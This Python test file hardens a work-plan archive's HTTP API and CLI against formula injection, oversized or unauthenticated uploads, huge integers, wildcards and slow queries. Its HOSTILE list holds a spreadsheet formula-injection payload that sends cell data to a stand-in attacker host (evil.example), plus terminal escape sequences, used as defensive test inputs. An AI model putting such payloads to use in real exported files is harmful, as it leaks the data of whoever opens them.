"""Issue 11's probes over the HTTP API, each as a user would meet it: the
answer is a clear 4xx (413, 422, 401, 400, or 503 past the read budget) or
the right data, never a 500 and never an unbounded wait."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from store import store_document
from tests.api.factory import make_doc, task

# --- exports: formula injection and control characters -----------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+1+2开展活动",
    "-3+4开展活动",
    "@SUM(A1:A9)开展活动",
    "\t=1+1开展活动",
    "\r=1+1开展活动",
    "开展\x07铃声\x1b[31m活动",
]


@pytest.fixture
def hostile_tasks(db):
    doc = make_doc("evil.txt", "外来单位", [task(t, [3]) for t in HOSTILE])
    store_document(db, doc)


def test_csv_neutralises_formula_starts_and_drops_control_characters(client, hostile_tasks):
    r = client.get("/tasks.csv")
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    texts = [row[4] for row in rows[1:]]
    assert len(texts) == len(HOSTILE)
    for text in texts:
        assert not text.startswith(("=", "+", "-", "@", "\t", "\r")), text
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")" in texts
    assert "开展铃声[31m活动" in texts


def test_xlsx_writes_every_cell_as_text_and_answers_despite_control_characters(client, hostile_tasks):
    r = client.get("/tasks.xlsx")
    assert r.status_code == 200, r.text  # a \x07 in a task used to answer 500
    ws = load_workbook(io.BytesIO(r.content)).active
    cells = [c for row in ws.iter_rows() for c in row]
    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))
    assert not any(c.data_type == "f" for c in cells)
    texts = [row[4].value for row in ws.iter_rows(min_row=2)]
    assert '=HYPERLINK("http://evil.example/?"&A1,"点击查看")' in texts  # shown as text, not run
    assert "开展铃声[31m活动" in texts


def test_cli_csv_neutralises_formula_starts_too(settings, hostile_tasks):
    from typer.testing import CliRunner

    from api.cli import app

    res = CliRunner().invoke(app, ["tasks", "--db", settings.db, "--format", "csv", "--limit", "0"])
    assert res.exit_code == 0, res.output
    rows = list(csv.reader(io.StringIO(res.stdout)))
    assert all(not row[4].startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows[1:])
    assert not any("\x07" in row[4] for row in rows[1:])


# --- the body: 401 before it is read, 413 also when chunked --------------------------


def test_chunked_oversize_body_is_413_not_400(client, db):
    # no Content-Length: the body arrives in chunks and is counted
    def chunks():
        yield b"--x\r\nContent-Disposition: form-data; name=\"files\"; filename=\"big.txt\"\r\n\r\n"
        for _ in range(40):
            yield b"a" * (256 * 1024)

    r = client.post("/documents", content=chunks(), headers={"Content-Type": "multipart/form-data; boundary=x"})
    assert r.status_code == 413, r.text
    assert r.json()["error"]["code"] == "request_too_large" and "上限" in r.json()["error"]["message"]
    assert db["documents"].count == 0


def test_a_write_without_the_token_is_401_before_the_body_is_read(tmp_path):
    from fastapi.testclient import TestClient

    from api.app import create_app
    from tests.api.conftest import make_settings

    sent = 0

    def body():
        nonlocal sent
        for _ in range(400):  # 100 MB if it were all read
            sent += 1
            yield b"a" * (256 * 1024)

    with TestClient(create_app(make_settings(tmp_path, token="s3cret", max_zip_mb=200))) as c:
        r = c.post("/documents", content=body(), headers={"Content-Type": "multipart/form-data; boundary=x"})
    assert r.status_code == 401
    assert sent <= 2  # answered before the upload was read


# --- query parameters -----------------------------------------------------------------


@pytest.mark.parametrize(
    "path,params",
    [
        ("/tasks", {"offset": str(10**30)}),
        ("/tasks", {"year": str(10**30)}),
        ("/tasks", {"plan_id": str(10**30)}),
        ("/tasks", {"document_id": str(-(10**30))}),
        ("/plans", {"offset": str(10**30)}),
        ("/plans", {"year": str(10**30)}),
        ("/plans/" + str(10**30), {}),
        ("/documents/" + str(10**30), {}),
        ("/compare", {"plan_ids": str(10**30)}),
        ("/facets", {"year": str(2**63)}),
        ("/tasks.csv", {"plan_id": str(2**64)}),
    ],
)
def test_huge_integers_are_422_not_500(client, seeded, path, params):
    r = client.get(path, params=params)
    assert r.status_code == 422, r.text
    assert set(r.json()) == {"error"}


@pytest.mark.parametrize("param", ["q", "unit", "body", "theme"])
def test_a_nul_in_a_filter_is_422_not_a_match_of_everything(client, seeded, param):
    r = client.get("/tasks", params={param: "\x00"})
    assert r.status_code == 422 and r.json()["error"]["code"] == "control_characters"


@pytest.mark.parametrize("body", ["%", "_", "%会%", "\\"])
def test_percent_and_underscore_in_body_are_text_not_wildcards(client, seeded, body):
    r = client.get("/tasks", params={"body": body})
    assert r.status_code == 200 and r.json()["total"] == 0


def test_underscore_in_q_is_text(client, seeded):
    assert client.get("/tasks", params={"q": "_"}).json()["total"] == 0


def test_a_query_of_many_terms_is_422_at_once(client, seeded):
    r = client.get("/tasks", params={"q": " ".join("的会工女三八春节安全教" * 2)})
    assert r.status_code == 422 and r.json()["error"]["code"] == "query_too_many_terms"
    assert "超过 10 个的上限" in r.json()["error"]["message"]
    r = client.get("/plans", params={"q": "工" * 300})
    assert r.status_code == 422 and r.json()["error"]["code"] == "query_too_long"
    assert "超过 200 个的上限" in r.json()["error"]["message"]


def test_cli_applies_the_query_limits(settings, seeded):
    from typer.testing import CliRunner

    from api.cli import app

    res = CliRunner().invoke(app, ["tasks", "--db", settings.db, "--q", " ".join("的会工女三八春节安全教")])
    assert res.exit_code == 2 and "超过 10 个的上限" in res.output


# --- the read budget ---------------------------------------------------------------------


@pytest.fixture
def many_tasks_client(tmp_path):
    """20,000 tasks in 200 plans, and a read budget of 1 ms (scanning them
    for ten 1-character terms takes longer)."""
    from fastapi.testclient import TestClient

    from api.app import create_app
    from tests.api.conftest import make_settings

    s = make_settings(tmp_path, read_budget_s=0.001)
    with TestClient(create_app(s)) as c:
        from store import open_db

        db = open_db(s.db)
        for i in range(200):
            store_document(db, make_doc(f"p{i}.txt", f"单位{i % 20}", [task(f"第{i}号计划任务{k}开展活动", [k % 12 + 1]) for k in range(100)]))
        db.close()
        yield c


def test_a_read_past_its_budget_answers_503_with_the_reason(many_tasks_client):
    import time

    t0 = time.perf_counter()
    r = many_tasks_client.get("/tasks", params={"q": "动 活 展 开 务 任 号 第 划 计"})
    assert time.perf_counter() - t0 < 5
    assert r.status_code == 503, r.text
    assert r.json()["error"]["code"] == "read_budget" and "时间预算" in r.json()["error"]["message"]
    assert r.headers["retry-after"]
    assert many_tasks_client.get("/plans/1").status_code == 200  # the server goes on


# --- compare ---------------------------------------------------------------------------------


def test_compare_counts_every_plan_of_a_unit_under_the_unit(client, db):
    a = [make_doc(f"a{i}.txt", "甲公司工会", [task(f"甲第{i}项任务开展活动", [i + 1])]) for i in range(3)]
    b = [make_doc("b.txt", "乙学校工会", [task("乙的任务召开会议", [5])])]
    for d in a + b:
        store_document(db, d)
    c = client.get("/compare", params={"units": "甲公司工会,乙学校工会"}).json()
    assert c["units"] == ["甲公司工会", "乙学校工会"]  # no "甲公司工会 #1" columns
    assert c["task_counts"] == {"甲公司工会": 3, "乙学校工会": 1}


def test_compare_by_ids_of_one_units_plans_tells_them_apart(client, db):
    ids = [store_document(db, make_doc(f"a{i}.txt", "甲公司工会", [task(f"第{i}项", [1])])).document_id for i in range(2)]
    plan_ids = [client.get(f"/documents/{d}").json()["plans"][0]["id"] for d in ids]
    c = client.get("/compare", params={"plan_ids": ",".join(map(str, plan_ids))}).json()
    assert c["units"] == [f"甲公司工会 #{p}" for p in plan_ids]


def test_compare_over_the_limits_is_422_at_once(tmp_path):
    from fastapi.testclient import TestClient

    from api.app import create_app
    from tests.api.conftest import make_settings

    s = make_settings(tmp_path, max_compare_plans=50, max_compare_tasks=300)
    with TestClient(create_app(s)) as c:
        from store import open_db

        db = open_db(s.db)
        for i in range(60):
            store_document(db, make_doc(f"a{i}.txt", "大单位", [task(f"第{i}项任务", [1])]))
        for i in range(20):
            store_document(db, make_doc(f"b{i}.txt", f"小单位{i}", [task(f"第{i}.{k}项", [1]) for k in range(20)]))
        db.close()
        r = c.get("/compare", params={"units": "大单位,小单位1"})
        assert r.status_code == 422 and r.json()["error"]["code"] == "compare_plans"
        assert "61 个计划：一次最多比较 50 个" in r.json()["error"]["message"]
        r = c.get("/compare", params={"units": ",".join(f"小单位{i}" for i in range(20))})
        assert r.status_code == 422 and r.json()["error"]["code"] == "compare_tasks"
        assert "400 项任务：一次最多比较 300 项" in r.json()["error"]["message"]
        r = c.get("/compare", params={"units": ",".join(f"u{i}" for i in range(21))})
        assert r.status_code == 422 and r.json()["error"]["code"] == "compare_units"
        assert "21 个单位：一次最多比较 20 个" in r.json()["error"]["message"]


def test_compare_of_plans_from_one_template_is_fast_and_finds_them_shared(client, db):
    import time

    words = ["职工书屋建设", "女职工健康讲座", "春节慰问困难职工", "安全生产月竞赛", "劳模评选表彰", "职代会换届",
             "青年读书分享", "夏季送清凉", "工会经费审计", "退休职工座谈", "技能比武大赛", "法律知识宣讲"]
    template = [f"组织开展{w}活动" for w in words] * 2
    for i in range(400):
        store_document(db, make_doc(f"t{i}.txt", f"模板单位{i % 20}", [task(t, [k % 12 + 1]) for k, t in enumerate(template)], year=2000 + i))
    t0 = time.perf_counter()
    r = client.get("/compare", params={"units": ",".join(f"模板单位{i}" for i in range(20))})
    elapsed = time.perf_counter() - t0
    assert r.status_code == 200, r.text
    c = r.json()
    assert sum(c["task_counts"].values()) == 400 * 24
    assert len(c["shared"]) == 12 and all(len(s["units"]) == 20 for s in c["shared"])
    assert elapsed < 10


# --- one rule for bad files: uploads are atomic, batches per file ---------------------------


def _blank_and_text_pdf() -> bytes:
    from tests.hostile import pdf_pages

    return pdf_pages([["测试单位2025年工作计划", "一、加强思想政治建设", "1.三月组织开展女职工健康讲座。"], None])


def test_mixed_upload_names_the_bad_pdf_and_stores_nothing(client, db):
    from tests.api.conftest import plan_text, upload

    bad_pdf = b"%PDF-1.4\n" + b"\x00\x01garbage" * 50
    r = upload(client, ("good.txt", plan_text(1)), ("bad.pdf", bad_pdf), ("blank-page.pdf", _blank_and_text_pdf()))
    assert r.status_code == 422, r.text  # not 202: nothing goes to the background
    message = r.json()["error"]["message"]
    assert message.startswith("bad.pdf: ") and "这次上传的文件都没有保存" in message
    assert r.json()["error"]["code"] == "upload_refused"
    assert db["documents"].count == 0


def test_a_blank_page_without_images_needs_no_ocr(client):
    from tests.api.conftest import upload

    r = upload(client, ("blank-page.pdf", _blank_and_text_pdf()))
    assert r.status_code == 201, r.text
    assert r.json()["documents"][0]["plans"]


def test_every_bad_file_of_an_upload_is_named(client, db):
    from tests.api.conftest import plan_text, upload

    r = upload(client, ("a.txt", plan_text(1)), ("b.bin", b"\x00\x01\x02" * 100), ("c.txt", b"   \n  \n"))
    assert r.status_code == 422
    message = r.json()["error"]["message"]
    assert "b.bin: " in message and "c.txt: " in message
    assert db["documents"].count == 0


def test_an_upload_needing_ocr_is_atomic_in_its_job_too(client, db):
    from tests.api.conftest import plan_text, upload, wait_job
    from tests.hostile import pdf_pages

    scan = pdf_pages([None], image_on_blank=True)
    r = upload(client, ("good.txt", plan_text(7)), ("scan.pdf", scan), ("empty.txt", b"  \n \n"))
    assert r.status_code == 202, r.text
    job = wait_job(client, r.json()["id"], timeout=120)
    assert job["status"] == "failed" and job["stored"] == 0
    by_source = {x["source"]: x for x in job["results"]}
    assert "empty.txt" in by_source["upload:empty.txt"]["error"]
    assert "未保存：这次上传的另一个文件失败了" in by_source["upload:good.txt"]["error"]
    assert db["documents"].count == 0


def test_pdf_encrypted_with_an_empty_password_is_stored_with_its_plans(client):
    from tests.api.conftest import upload
    from tests.hostile import ENCRYPTED_PLAN, cid_pdf

    lines = ENCRYPTED_PLAN
    data = cid_pdf(lines, user_password="")
    r = upload(client, ("locked.pdf", data))
    assert r.status_code == 201, r.text
    doc = r.json()["documents"][0]
    assert doc["plans"] and doc["plans"][0]["task_count"] >= 2
    again = upload(client, ("locked.pdf", data)).json()["documents"][0]
    assert again["duplicate"] and again["plans"] == doc["plans"]


def test_a_docx_sent_to_batches_is_a_batch_of_one(client):
    from tests.api.conftest import wait_job
    from tests.hostile import docx_bytes

    data = docx_bytes(["测试单位2025年工作计划", "一、加强思想政治建设", "1.三月组织开展女职工健康讲座。"])
    r = client.post("/batches", files={"files": ("plan.docx", data)})
    assert r.status_code == 202
    job = wait_job(client, r.json()["id"])
    assert job["status"] == "done" and job["stored"] == 1, job


def test_a_zip_inside_a_batch_is_reported_not_ignored(client):
    from tests.api.conftest import plan_text, wait_job
    from tests.hostile import zip_of

    inner = zip_of({"x.txt": plan_text(3)})
    outer = zip_of({"a.txt": plan_text(2), "more/inner.zip": inner})
    job = wait_job(client, client.post("/batches", files={"files": ("b.zip", outer)}).json()["id"])
    assert job["stored"] == 1 and job["failed"] == 1
    [err] = [x for x in job["results"] if x["status"] == "error"]
    assert err["source"].endswith("more/inner.zip") and "压缩包里的压缩包不会打开" in err["error"]


def test_an_empty_token_is_warned_about(tmp_path, caplog):
    from fastapi.testclient import TestClient

    from api.app import create_app
    from tests.api.conftest import make_settings

    with caplog.at_level("WARNING"), TestClient(create_app(make_settings(tmp_path, token=""))):
        pass
    assert "JIHUA_TOKEN is set but empty" in caplog.text


def test_serve_warns_about_an_empty_token(tmp_path):
    import os
    import subprocess
    import sys
    from pathlib import Path

    jihua = Path(sys.executable).with_name("jihua")
    env = {**os.environ, "JIHUA_TOKEN": "", "JIHUA_DB": str(tmp_path / "t.db")}
    from tests.api.test_uvicorn import free_port

    proc = subprocess.Popen([str(jihua), "serve", "--port", str(free_port())], env=env, stderr=subprocess.PIPE, text=True)
    try:
        first = proc.stderr.readline() + proc.stderr.readline()
    finally:
        proc.kill()
        proc.wait(10)
    assert "JIHUA_TOKEN is set but empty" in first
